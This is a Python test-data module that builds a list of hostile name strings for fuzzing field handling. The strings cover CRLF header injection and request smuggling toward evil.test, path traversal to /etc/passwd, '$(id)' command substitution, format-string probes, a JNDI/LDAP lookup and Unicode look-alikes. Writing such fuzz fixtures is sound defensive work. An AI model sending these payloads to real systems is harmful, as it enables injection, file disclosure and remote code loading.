"""Names that are made to reach beyond their field: line ends, parent paths, look-alikes, huge ones."""

import itertools

_LINE_ENDS = [
    "\r\n", "\n", "\r", "\r\n\r\n", "\n\n", "\0", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x1b[2K", "\x08", "\x7f",
    "\x85", "\u2028", "\u2029",
]  # fmt: skip
_AFTER_A_LINE_END = ["x-evil: 1", " folded", "GET /evil HTTP/1.1\r\nhost: evil.test\r\n\r\n", ""]
_CLIMBS = [
    "../", "..", ".", "./", "../../../../etc/passwd", "..%2f", "..%2F..%2f", "%2e%2e/", "%2e%2e%2f", "%2E%2E", ".%2e",
    "..;/", "....//", "..\\", "..%5c", "%5c..%5c", "..%c0%af", "..%252f", "%252e%252e%252f", "/..", "/../evil",
    "//evil.test/x", "/\\evil.test", "///", "/", "a/../../evil", "a/./b", "a//b", "file:///etc/passwd", "..%00/",
]  # fmt: skip
_MARKS = [
    "?", "?evil=1", "#", "#evil", "&evil=1", ";evil", "@evil.test", "user:pass@evil.test", ":80", ":generateContent",
    "%2f", "%2F", "%3f", "%3Fevil=1", "%23", "%25", "%", "%%", "%zz", "%0", "%0d%0ax-evil:%201", "%0a", "%00",
    "%E2%80%A8", "%u000a", "\\", "\\r\\n", "\\u000d\\u000a", "+", " ", "a b", "\t", "a\tb", '"', "'", "<b>", "{x}",
    "{{x}}", "{AZURE_OPENAI_ENDPOINT}", "$(id)", "`id`", "|", "^", "~", "*", "!", "=", ",", "[::1]", "%s%s%n", "%(x)s",
    "{0.__class__}", "${jndi:ldap://evil.test/x}", "http://evil.test/", "HTTP/1.1", " HTTP/1.1\r\nx-evil: 1",
]  # fmt: skip
_LETTERS = [
    *"\xa0\u1680\u2000\u2003\u2009\u200a\u200b\u200c\u200d\u202f\u205f\u2060\u3000\ufeff\u180e\xad",  # blanks
    *"\u061c\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069",  # directions
    *"\uff0e\uff0f\uff1f\uff03\uff1a\uff20\uff05\u2024\u2025\u2026\u2044\u2215\u29f8\ufe52\ufe68",  # look-alikes
    *"\u010a\u010d\u560a\u560d\u4e0d\u0a0d\u2f00\u012f",  # whose low bytes are line ends or slashes
    *"é你ßı\u212a\U0001f600\U000e0041\ud800\udc00\udfff\uffff\U0010ffff", "e\u0301", "\ud83d\ude00"[:1],
    "\uff0e\uff0e\uff0f", "\u560d\u560ax-evil: 1",
]  # fmt: skip
_MASSES = ["a" * 9_000, "../" * 3_000, "%2f" * 3_000, "é" * 5_000, "\r\n" * 2_000, "/" * 5_000, "%" * 5_000]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *map("".join, itertools.product(_LINE_ENDS, _AFTER_A_LINE_END)),
            *(f"a{end}x-evil: 1" for end in _LINE_ENDS),
            *_CLIMBS,
            *(f"m/{climb}" for climb in _CLIMBS),
            *_MARKS,
            *(f"m{mark}" for mark in _MARKS),
            *_LETTERS,
            *_MASSES,
        ]
    )
)
